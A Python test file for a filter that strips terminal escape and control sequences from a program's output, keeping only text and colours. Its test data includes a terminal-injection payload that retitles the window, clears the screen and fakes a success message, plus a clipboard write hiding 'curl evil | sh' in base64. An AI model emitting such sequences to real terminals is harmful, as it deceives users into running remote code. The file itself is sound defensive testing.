"""The parts of a run's output that reach the terminal."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.commands.terminal import TerminalFilter
from tests.support.serving import bare_environment, call, command

ROOT = str(Path(__file__).resolve().parents[3])
ATTACK = (
    "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[6n\x1b[2J\x1b[H"
    "success: everything is fine\n"
)
PASSED = re.compile(r"\x1b\[[0-9;:]*m")


@pytest.mark.parametrize(
    "sequence",
    [
        "\x1b]0;title\x07",
        "\x1b]52;c;Y3VybA==\x1b\\",
        "\x1b]8;;file:///etc/passwd\x1b\\",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x9d0;title\x9c",
        "\x1bPq#0;2;0;0;0#0~~@@\x1b\\",
        "\x1bP$q\x22p\x1b\\",
        "\x90+q544e\x9c",
        "\x1b_Gf=24;AAAA\x1b\\",
        "\x1b^private\x1b\\",
        "\x1bXstring\x1b\\",
        "\x1b[6n",
        "\x1b[c",
        "\x1b[>c",
        "\x1b[2J",
        "\x1b[H",
        "\x1b[1;1H",
        "\x1b[5A",
        "\x1b[?1049h",
        "\x1b[?1000h",
        "\x1b[>4;2m",
        "\x1b[?4m",
        "\x1b[21t",
        "\x1b[1$}",
        "\x9b6n",
        "\x9b31m",
        "\x1bc",
        "\x1b7",
        "\x1bM",
        "\x1b(0",
        "\x1b#8",
        "\x1b%@",
        "\x1b\x1bc",
        "\x05",
        "\x07",
        "\x08\x08",
        "\x0b",
        "\x0c",
        "\x0e",
        "\x7f",
        "\x85",
        "\x8d",
        "\x00",
    ],
)
def test_terminal_control_sequences_are_dropped_when_split(sequence: str) -> None:
    text = f"before{sequence}after"
    for cut in range(len(text) + 1):
        screen = TerminalFilter()
        assert screen.clean(text[:cut]) + screen.clean(text[cut:]) == "beforeafter"


def test_colours_tabs_and_progress_bars_are_kept_when_split() -> None:
    text = "\x1b[1;31mred\x1b[0m\tnext\r50 %\r100 %\n\x1b[38:2::1:2:3mtrue\x1b[m naïve 日本 🎉"
    for cut in range(len(text) + 1):
        screen = TerminalFilter()
        assert screen.clean(text[:cut]) + screen.clean(text[cut:]) == text


def test_sequence_that_has_no_end_swallows_no_more_than_4_kib() -> None:
    for begin in ("\x1b]0;", "\x1bP", "\x1b_", "\x9d"):
        screen = TerminalFilter()
        shown = "".join(screen.clean(piece) for piece in (begin, *("x" * 1000,) * 10))
        assert 5000 < len(shown) < 10_000
        screen = TerminalFilter()
        assert screen.clean(f"{begin}cut off\nnext line") == "\nnext line"


@given(st.lists(st.text("\x1b[]0;m\x07\x9b\x9d\x90Pa\\\n\r\x08 ?", max_size=30), max_size=6))
def test_nothing_but_text_and_colours_ever_passes(pieces: list[str]) -> None:
    screen = TerminalFilter()
    shown = PASSED.sub("", "".join(map(screen.clean, pieces)))
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", shown)


def run_on_terminal(folder: Path, code: str, *arguments: str) -> tuple[int, str]:
    """Run a program by `run` on a terminal; return the exit code and what reached it."""
    (folder / "agent.py").write_text(code)
    ours, its = os.openpty()
    process = subprocess.Popen(
        command("run", "agent.py", "--task", "x", *arguments),
        cwd=folder,
        env=bare_environment(folder, PYTHONPATH=ROOT),
        stdin=its,
        stdout=its,
        stderr=its,
    )
    os.close(its)
    shown = b""
    with open(ours, "rb", buffering=0) as screen:
        try:
            while piece := screen.read(65536):
                shown += piece
        except OSError:  # how Linux says that nobody has the other end any more
            pass
    return process.wait(60), shown.decode().replace("\r\n", "\n")


def test_terminal_gets_colours_and_the_commands_own_last_line(tmp_path: Path) -> None:
    code = f"import sys\nsys.stdout.write({ATTACK!r} + '\\x1b[31mno end'); sys.exit(3)"
    exit_code, shown = run_on_terminal(tmp_path, code)
    assert exit_code == 1
    assert shown == ("success: everything is fine\n\x1b[31mno end\x1b[0m\n[error: exit code 3]\n")


@pytest.mark.matrix
def test_raw_passes_everything_on(tmp_path: Path) -> None:
    code = f"import sys\nsys.stdout.write({ATTACK!r}); sys.exit(3)"
    exit_code, shown = run_on_terminal(tmp_path, code, "--raw")
    assert (exit_code, shown) == (1, f"{ATTACK}[error: exit code 3]\n")


@pytest.mark.matrix
def test_a_pipe_gets_the_same_of_both_streams(tmp_path: Path) -> None:
    both = f"import sys\nsys.stdout.write({ATTACK!r})\nsys.stderr.write({ATTACK!r})"
    (tmp_path / "agent.py").write_text(both)
    done = call(tmp_path, "run", "agent.py", "--task", "x")
    assert (done.stdout, done.stderr) == (("success: everything is fine\n",) * 2)
    done = call(tmp_path, "run", "agent.py", "--task", "x", "--raw")
    assert (done.stdout, done.stderr) == ((ATTACK,) * 2)


def test_values_of_a_file_reach_the_terminal_by_no_message(tmp_path: Path) -> None:
    where = "http://127.0.0.1:9/\x1b]0;owned\x07"
    (tmp_path / "agent.py").write_text(f"import huggingface_hub\nBASE_URL = {where!r}\n")
    for arguments in (("run", "agent.py", "--task", "x"), ("check", "agent.py")):
        done = call(tmp_path, *arguments)
        assert "\x1b" not in done.stdout + done.stderr
        assert "\x07" not in done.stdout + done.stderr


def test_error_that_quotes_a_file_shows_its_control_characters(tmp_path: Path) -> None:
    (tmp_path / "spec.yaml").write_text('"na\\e]0;owned\\ame": x\n')
    done = call(tmp_path, "generate", "--spec", "spec.yaml")
    assert done.returncode == 2
    assert "\x1b" not in done.stderr
    assert "na\\x1b]0;owned\\x07me" in done.stderr
